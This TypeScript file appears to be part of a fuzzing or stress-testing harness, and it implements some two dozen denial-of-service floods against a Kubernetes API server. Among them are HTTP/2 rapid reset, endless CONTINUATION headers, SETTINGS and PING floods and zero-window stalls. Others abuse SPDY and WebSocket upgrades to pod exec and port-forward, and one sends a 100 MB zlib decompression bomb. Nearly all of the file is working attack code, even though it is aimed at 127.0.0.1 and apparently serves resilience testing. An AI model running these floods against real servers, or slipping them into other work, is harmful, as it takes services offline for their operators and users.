/**
 * Floods: connections that are well formed, frame by frame, and ask for more work or memory than anybody means: rapid resets, endless heads,
 * PING and SETTINGS without an end, answers that are never taken, upgrades that are flooded or never used. Each runs until it is told to
 * stop; whoever is cut off connects again.
 */
import { randomBytes } from 'node:crypto';
import { connect, type TLSSocket } from 'node:tls';
import { deflateSync } from 'node:zlib';
import type { WireTarget } from './fuzz-wire.ts';

export interface FloodTarget extends WireTarget {
  /** `namespace/name` of a pod that runs nginx. */
  readonly pod: string;
}

export type Flood = (target: FloodTarget, signal: AbortSignal) => Promise<void>;

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const kind = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 } as const;
const endOfStream = 1;
const endOfHead = 4;

function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A text of HPACK, not compressed. */
function text(value: string): Buffer {
  const bytes = Buffer.from(value, 'latin1');
  const left = bytes.length - 127;
  if (left < 0) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
  const length = [127];
  let rest = left;
  for (; rest >= 128; rest >>= 7) length.push((rest & 127) | 128);
  return Buffer.concat([Buffer.from([...length, rest]), bytes]);
}

function head(path: string, token: string): Buffer {
  // GET, https, :path, :authority and authorization by their places in the static table.
  return Buffer.concat([
    Buffer.from([0x82, 0x87, 0x04]),
    text(path),
    Buffer.from([0x01]),
    text('localhost'),
    Buffer.from([0x0f, 0x08]),
    text(`Bearer ${token}`),
  ]);
}

function numbers(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  values.forEach((value, index) => bytes.writeUInt32BE(value, index * 4));
  return bytes;
}

/** `[id, value]` of SETTINGS. */
function settings(...pairs: readonly (readonly [number, number])[]): Buffer {
  const payload = Buffer.alloc(pairs.length * 6);
  pairs.forEach(([id, value], index) => {
    payload.writeUInt16BE(id, index * 6);
    payload.writeUInt32BE(value, index * 6 + 2);
  });
  return frame(kind.settings, 0, 0, payload);
}

interface Sending {
  readonly start: Buffer;
  /** The next bytes; nothing when there are no more, and the connection is held open. */
  readonly next?: (turn: number) => Buffer | undefined;
  readonly protocol?: 'h2' | 'http/1.1';
  /** Takes what is answered; else the connection is not read from. */
  readonly reads?: boolean;
  /** Waits for this in the first answer before it goes on. */
  readonly after?: string;
}

/** One connection after the other, each as fast as the other side takes it. */
async function pour({ port }: FloodTarget, signal: AbortSignal, makeSending: () => Sending): Promise<void> {
  while (!signal.aborted) {
    const { start, next, protocol = 'h2', reads = true, after } = makeSending();
    await new Promise<void>((resolve) => {
      const socket: TLSSocket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false, ALPNProtocols: [protocol] });
      const stop = (): void => void socket.destroy();
      signal.addEventListener('abort', stop);
      socket.on('error', () => undefined);
      socket.on('close', () => {
        signal.removeEventListener('abort', stop);
        setTimeout(resolve, 5);
      });
      let turn = 0;
      const more = (): void => {
        for (let written = 0; written < 64 && !socket.destroyed; written++) {
          const bytes = next?.(turn++);
          if (bytes === undefined) return;
          if (!socket.write(bytes)) return void socket.once('drain', more);
        }
        if (!socket.destroyed) setImmediate(more);
      };
      socket.on('secureConnect', () => {
        socket.write(start);
        if (after !== undefined) {
          let said = '';
          const listen = (chunk: Buffer): void => {
            said += chunk.toString('latin1');
            if (!said.includes('\r\n\r\n')) return;
            socket.off('data', listen);
            if (!said.includes(after)) return stop();
            if (reads) socket.resume();
            else socket.pause();
            more();
          };
          socket.on('data', listen);
          return;
        }
        if (reads) socket.resume();
        more();
      });
    });
  }
}

/** Streams of odd numbers, some hundred a turn. */
function streams(of: (stream: number) => readonly Buffer[], perTurn = 50): (turn: number) => Buffer {
  return (turn) => Buffer.concat(Array.from({ length: perTurn }, (_, index) => of((turn * perTurn + index) * 2 + 1)).flat());
}

const lists = '/api/v1/configmaps?limit=500';
const opening = Buffer.concat([preface, settings()]);

function upgrade(path: string, token: string, headers: readonly string[]): Buffer {
  return Buffer.from(
    [`POST ${path} HTTP/1.1`, 'Host: localhost', `Authorization: Bearer ${token}`, 'Connection: Upgrade', ...headers, '', ''].join('\r\n'),
  );
}

function socketUpgrade(path: string, token: string, protocol: string): Buffer {
  const asked = [
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    `Sec-WebSocket-Protocol: ${protocol}`,
  ];
  const lines = [`GET ${path} HTTP/1.1`, 'Host: localhost', `Authorization: Bearer ${token}`, 'Connection: Upgrade', ...asked, '', ''];
  return Buffer.from(lines.join('\r\n'));
}

const podPath = ({ pod }: FloodTarget, verb: string): string => `/api/v1/namespaces/${pod.replace('/', '/pods/')}/${verb}`;
const spdyForward = (target: FloodTarget): Buffer =>
  upgrade(podPath(target, 'portforward'), target.token, ['Upgrade: SPDY/3.1', 'X-Stream-Protocol-Version: portforward.k8s.io']);
const execPath = (target: FloodTarget): string => `${podPath(target, 'exec')}?command=cat&stdin=1&stdout=1`;

function spdyControl(type: number, flags: number, payload: Buffer): Buffer {
  const bytes = Buffer.alloc(8);
  bytes.writeUInt16BE(0x8003, 0);
  bytes.writeUInt16BE(type, 2);
  bytes.writeUInt32BE(payload.length, 4);
  bytes[4] = flags;
  return Buffer.concat([bytes, payload]);
}

/** A masked frame of a WebSocket whose mask is zero. */
function socketFrame(first: number, payload: Buffer): Buffer {
  const length = payload.length < 126 ? Buffer.from([0x80 | payload.length]) : Buffer.from([0xfe, payload.length >> 8, payload.length & 255]);
  return Buffer.concat([Buffer.from([first]), length, Buffer.alloc(4), payload]);
}

const repeated = (bytes: Buffer, times: number): Buffer => Buffer.concat(Array.from({ length: times }, () => bytes));

export const floods: Readonly<Record<string, Flood>> = {
  'rapid reset': (target, signal) =>
    pour(target, signal, () => ({
      start: opening,
      next: streams((stream) => [
        frame(kind.headers, endOfStream | endOfHead, stream, head(lists, target.token)),
        frame(kind.reset, 0, stream, numbers(8)),
      ]),
    })),
  'resets that the server makes': (target, signal) =>
    pour(target, signal, () => ({
      start: opening,
      next: streams((stream) => [
        frame(kind.headers, endOfStream | endOfHead, stream, head(lists, target.token)),
        frame(kind.windowUpdate, 0, stream, numbers(0)),
      ]),
    })),
  'heads without an end': (target, signal) =>
    pour(target, signal, () => ({
      start: Buffer.concat([opening, frame(kind.headers, endOfStream, 1, head(lists, target.token))]),
      next: () => repeated(frame(kind.continuation, 0, 1, Buffer.concat([Buffer.from([0x00]), text('x-a'), text('b'.repeat(900))])), 20),
    })),
  'empty pieces of heads': (target, signal) =>
    pour(target, signal, () => ({
      start: Buffer.concat([opening, frame(kind.headers, endOfStream, 1, head(lists, target.token))]),
      next: () => repeated(frame(kind.continuation, 0, 1), 200),
    })),
  'a long header named again and again': (target, signal) =>
    pour(target, signal, () => ({
      start: opening,
      next: streams((stream) => [
        frame(
          kind.headers,
          endOfStream | endOfHead,
          stream,
          Buffer.concat([
            head('/readyz', target.token),
            ...(stream === 1 ? [Buffer.from([0x40]), text('x-long'), text('v'.repeat(3_900))] : []),
            Buffer.alloc(stream === 1 ? 0 : 4_000, 0xbe),
          ]),
        ),
      ]),
    })),
  settings: (target, signal) => pour(target, signal, () => ({ start: opening, next: () => repeated(settings([1, 4096], [4, 65_535]), 200) })),
  'settings of windows while answers wait': (target, signal) =>
    pour(target, signal, () => ({
      start: Buffer.concat([
        preface,
        settings([4, 0]),
        streams((stream) => [frame(kind.headers, endOfStream | endOfHead, stream, head(lists, target.token))], 500)(0),
      ]),
      next: (turn) => repeated(settings([4, turn % 2]), 20),
    })),
  'pings that nobody hears answered': (target, signal) =>
    pour(target, signal, () => ({ start: opening, reads: false, next: () => repeated(frame(kind.ping, 0, 0, Buffer.alloc(8)), 200) })),
  'pieces without bytes': (target, signal) =>
    pour(target, signal, () => ({
      start: Buffer.concat([opening, frame(kind.headers, endOfHead, 1, head(lists, target.token))]),
      next: () => repeated(frame(kind.data, 0, 1), 200),
    })),
  priorities: (target, signal) =>
    pour(target, signal, () => ({
      start: opening,
      next: streams((stream) => [frame(kind.priority, 0, stream, Buffer.concat([numbers(stream > 1 ? stream - 2 : 0), Buffer.from([16])]))], 200),
    })),
  'lists that nobody takes': (target, signal) =>
    pour(target, signal, () => ({
      start: Buffer.concat([preface, settings([4, 0])]),
      next: (turn) =>
        turn < 20
          ? streams((stream) => [frame(kind.headers, endOfStream | endOfHead, stream, head('/api/v1/configmaps', target.token))])(turn)
          : undefined,
    })),
  'watches that nobody takes': (target, signal) =>
    pour(target, signal, () => ({
      start: Buffer.concat([preface, settings([4, 0])]),
      next: (turn) =>
        turn < 10
          ? streams((stream) => [frame(kind.headers, endOfStream | endOfHead, stream, head('/api/v1/configmaps?watch=1', target.token))])(turn)
          : undefined,
    })),
  'requests one behind the other whose answers nobody takes': (target, signal) =>
    pour(target, signal, () => ({
      start: Buffer.alloc(0),
      protocol: 'http/1.1',
      reads: false,
      next: () => repeated(Buffer.from(`GET ${lists} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${target.token}\r\n\r\n`), 50),
    })),
  'chunks of one byte': (target, signal) =>
    pour(target, signal, () => ({
      start: Buffer.from(
        `POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${target.token}\r\nTransfer-Encoding: chunked\r\n\r\n`,
      ),
      protocol: 'http/1.1',
      next: () => repeated(Buffer.from('1;extension=of-a-chunk\r\n \r\n'), 200),
    })),
  'half of an upgrade': (target, signal) =>
    pour(target, signal, () => ({ start: spdyForward(target).subarray(0, 150), protocol: 'http/1.1', next: () => undefined })),
  'spdy pings that nobody hears answered': (target, signal) =>
    pour(target, signal, () => ({
      start: spdyForward(target),
      protocol: 'http/1.1',
      after: ' 101 ',
      reads: false,
      next: () => repeated(spdyControl(6, 0, numbers(1)), 500),
    })),
  'spdy streams that are never used': (target, signal) =>
    pour(target, signal, () => {
      const block = spdyHeaders({ streamtype: 'data', port: '80', requestid: '1' });
      return {
        start: spdyForward(target),
        protocol: 'http/1.1',
        after: ' 101 ',
        next: streams((stream) => [
          spdyControl(1, 0, Buffer.concat([numbers(stream, 0), Buffer.alloc(2), stream === 1 ? block : emptyBlock(block)])),
        ]),
      };
    }),
  'spdy heads that unfold': (target, signal) =>
    pour(target, signal, () => ({
      start: spdyForward(target),
      protocol: 'http/1.1',
      after: ' 101 ',
      next: streams((stream) => [spdyControl(1, 0, Buffer.concat([numbers(stream, 0), Buffer.alloc(2), bomb]))], 2),
    })),
  'spdy frames byte by byte': (target, signal) =>
    pour(target, signal, () => ({
      start: spdyForward(target),
      protocol: 'http/1.1',
      after: ' 101 ',
      next: (turn) => (turn === 0 ? Buffer.from([0x80, 3, 0, 4, 0, 0xff, 0xff, 0xff]) : Buffer.from([0])),
    })),
  'answers of a pod that nobody takes': (target, signal) =>
    pour(target, signal, () => ({
      start: socketUpgrade(`${podPath(target, 'portforward')}?ports=80`, target.token, 'v4.channel.k8s.io'),
      protocol: 'http/1.1',
      after: ' 101 ',
      reads: false,
      next: () => repeated(socketFrame(0x82, Buffer.from('\0GET / HTTP/1.1\r\nHost: a\r\n\r\n')), 100),
    })),
  'pings of a socket that nobody hears answered': (target, signal) =>
    pour(target, signal, () => ({
      start: socketUpgrade(execPath(target), target.token, 'v5.channel.k8s.io'),
      protocol: 'http/1.1',
      after: ' 101 ',
      reads: false,
      next: () => repeated(socketFrame(0x89, Buffer.alloc(125)), 100),
    })),
  'a message without an end': (target, signal) =>
    pour(target, signal, () => ({
      start: socketUpgrade(execPath(target), target.token, 'v5.channel.k8s.io'),
      protocol: 'http/1.1',
      after: ' 101 ',
      next: (turn) => socketFrame(turn === 0 ? 0x02 : 0x00, Buffer.alloc(60_000)),
    })),
  'input that nobody takes back': (target, signal) =>
    pour(target, signal, () => ({
      start: socketUpgrade(execPath(target), target.token, 'v5.channel.k8s.io'),
      protocol: 'http/1.1',
      after: ' 101 ',
      reads: false,
      next: () => socketFrame(0x82, Buffer.concat([Buffer.from([0]), randomBytes(30_000)])),
    })),
  'upgrades that are left alone': async (target, signal) => {
    const held = Array.from({ length: 50 }, () =>
      pour(target, signal, () => ({
        start: socketUpgrade(execPath(target), target.token, 'v5.channel.k8s.io'),
        protocol: 'http/1.1',
        next: () => undefined,
      })),
    );
    await Promise.all(held);
  },
};

/** Names and values as SPDY has them, in stored blocks: nothing of the dictionary is used, so no dictionary is needed to write them. */
function spdyHeaders(headers: Readonly<Record<string, string>>): Buffer {
  const words = Object.entries(headers)
    .flat()
    .map((word) => Buffer.concat([numbers(word.length), Buffer.from(word)]));
  return stored(Buffer.concat([numbers(words.length / 2), ...words]), true);
}

/** One stored block, and an empty one at which a reader may stop. */
function stored(bytes: Buffer, isFirst: boolean): Buffer {
  const length = Buffer.alloc(5);
  length.writeUInt16LE(bytes.length, 1);
  length.writeUInt16LE(bytes.length ^ 0xffff, 3);
  // A head of zlib that names the dictionary of SPDY/3.
  const begins = isFirst ? Buffer.from([0x78, 0xbb, 0xe3, 0xc6, 0xa7, 0xc2]) : Buffer.alloc(0);
  return Buffer.concat([begins, length, bytes, Buffer.from([0, 0, 0, 0xff, 0xff])]);
}

/** The same headers on a connection that has begun. */
function emptyBlock(first: Buffer): Buffer {
  return first.subarray(6);
}

const bomb = Buffer.concat([Buffer.from([0x78, 0xbb, 0xe3, 0xc6, 0xa7, 0xc2]), deflateSync(Buffer.alloc(100_000_000)).subarray(2)]);
